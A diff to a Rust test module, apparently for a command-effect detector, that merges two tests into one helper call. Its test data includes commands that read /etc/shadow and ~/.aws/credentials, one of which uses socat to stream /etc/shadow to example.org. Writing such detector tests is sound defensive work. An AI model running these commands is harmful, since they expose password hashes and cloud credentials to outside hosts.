@@ -127,32 +127,25 @@ fn takes_key(option: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use crate::knowledge::testing::all_effects;
+    use crate::knowledge::testing::tells_apart;
 
     #[test]
-    fn a_secret_that_no_entry_speaks_of_is_read() {
-        for text in [
-            "nasm -@ /etc/shadow",
-            "w3m -dump file:///etc/shadow",
-            "socat -u FILE:/etc/shadow TCP:example.org:443",
-            "troff ~/.aws/credentials",
-        ] {
-            let found = all_effects(text).join("; ");
-            assert!(found.contains("read path"), "{text}: {found}");
-        }
-    }
-
-    #[test]
-    fn a_key_that_is_used_as_one_is_not() {
-        for text in [
-            "ssh -i ~/.ssh/id_rsa example.org",
-            "ansible-playbook --private-key=~/.ssh/id_rsa site.yml",
-            "ansible-playbook --private-key ~/.ssh/id_rsa site.yml",
-            "echo ~/.ssh/id_rsa",
-            "ssh-copy-id -i ~/.ssh/id_rsa.pub example.org",
-        ] {
-            let found = all_effects(text).join("; ");
-            assert!(!found.contains("read path"), "{text}: {found}");
-        }
+    fn a_secret_that_no_entry_speaks_of_is_read_and_a_key_that_is_used_as_one_is_not() {
+        tells_apart(
+            "read path",
+            &[
+                "nasm -@ /etc/shadow",
+                "w3m -dump file:///etc/shadow",
+                "socat -u FILE:/etc/shadow TCP:example.org:443",
+                "troff ~/.aws/credentials",
+            ],
+            &[
+                "ssh -i ~/.ssh/id_rsa example.org",
+                "ansible-playbook --private-key=~/.ssh/id_rsa site.yml",
+                "ansible-playbook --private-key ~/.ssh/id_rsa site.yml",
+                "echo ~/.ssh/id_rsa",
+                "ssh-copy-id -i ~/.ssh/id_rsa.pub example.org",
+            ],
+        );
     }
 }
